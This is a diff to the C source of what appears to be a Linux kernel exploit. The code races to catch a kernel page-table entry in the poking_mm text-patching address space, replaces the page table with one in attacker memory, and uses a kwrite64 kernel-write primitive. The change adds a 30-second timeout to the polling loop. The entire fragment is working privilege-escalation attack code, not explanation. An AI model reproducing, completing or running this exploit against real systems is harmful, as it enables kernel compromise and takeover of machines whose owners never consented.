@@ -4,13 +4,14 @@
  * it: its page table is replaced by one in the attacker's memory.
  */
 #include <stddef.h>
-#include <sched.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
 
-#define POLL_ROUNDS	400000	/* between two questions to the helper */
+#define POLL_ROUNDS	400000	/* between two looks at the clock */
+#define PATIENCE	30	/* seconds */
 
 static int walk_poking_mm(uint64_t addr, int level, struct slot *slot)
 {
@@ -25,15 +26,17 @@ static int walk_poking_mm(uint64_t addr, int level, struct slot *slot)
 /* The kernel's entry is there for microseconds only. */
 static uint64_t wait_for_entry(volatile uint64_t *entry)
 {
+	time_t end = time(NULL) + PATIENCE;
 	uint64_t seen;
 	int i;
 
-	while (helper_is_busy())
+	do {
 		for (i = 0; i < POLL_ROUNDS; i++) {
 			seen = *entry;
 			if (seen)
 				return seen;
 		}
+	} while (time(NULL) < end);
 	return 0;
 }
 
@@ -58,7 +61,7 @@ enum outcome poking_mm(void)
 		return lost("the page table was not replaced: %d", err);
 	helper_patch_text();
 	seen = wait_for_entry(table + addr / PAGE_SIZE % table_entries());
-	helper_wait();
+	helper_stop();
 	kwrite64(slot.slot, slot.value);
 	if (!seen)
 		return lost("no entry showed up in the attacker's page table");
